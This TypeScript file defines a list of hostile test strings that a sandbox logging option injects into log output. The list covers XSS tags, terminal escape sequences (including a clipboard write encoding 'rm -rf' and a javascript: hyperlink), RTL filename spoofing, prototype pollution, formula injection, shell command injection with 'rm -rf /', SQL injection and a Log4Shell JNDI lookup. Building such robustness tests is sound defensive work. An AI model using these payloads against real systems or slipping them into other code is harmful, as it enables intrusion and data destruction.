const ESC = "\u001b";

/** Lines that attack a terminal, a page, or a reader's memory. */
const HOSTILE_LINES = [
  `<script>alert("log")</script><img src=x onerror=alert(1)><svg onload=alert(2)>`,
  `${ESC}[31;1;4mred, bold, underlined${ESC}[0m ${ESC}[7minverse${ESC}[27m ${ESC}[38;5;196m256${ESC}[39m ${ESC}[48;2;10;20;30mtrue color${ESC}[49m`,
  `${ESC}]0;title of your terminal\u0007${ESC}]8;;javascript:alert(1)${ESC}\\click me${ESC}]8;;${ESC}\\${ESC}]52;c;cm0gLXJm\u0007`,
  `${ESC}[2J${ESC}[H${ESC}[?1049h${ESC}[999;999Hmoved the cursor ${ESC}[1A${ESC}[K and cleared the line`,
  `never closed ${ESC}[38;2;255`,
  `progress 10%\rprogress 55%\rprogress 100%\r`,
  `carriage return and line feed\r\nsecond line of the same event\r\n\tthird\r\n`,
  `right to left: \u202Egnp.exe\u202C \u2066isolated\u2069 شكرا עברית \u200B\u200D\uFEFF|`,
  `null \u0000 bell \u0007 backspace a\bb\bc delete \u007F C1 \u009b31m\u0085`,
  `emoji 👩‍👩‍👧‍👦 🏳️‍🌈 e\u0301 Z\u0351\u0361\u0489\u0336\u031B\u0320 ﷽ \u{1F600}`,
  `{"__proto__":{"polluted":true},"constructor":{"prototype":{"x":1}}}`,
  `=HYPERLINK("http://example.com";"open me") | +1+1 | @SUM(A1) | -2`,
  `$(touch /tmp/owned) \`id\` ; rm -rf / ' OR 1=1 -- %s%n %00 \${jndi:ldap://example.com/a}`,
  `&lt;b&gt;entities&lt;/b&gt; &amp;amp; <!-- comment --> <![CDATA[ cdata ]]> </pre></textarea></style>`,
  "",
  "   \t  ",
] as const;

/** Returns the lines that `sandbox-log=hostile` adds to every step. The last is 100 kB long. */
export function generateHostileLines(): string[] {
  return [...HOSTILE_LINES, `${"<i>long</i> ".repeat(8500)}end`];
}
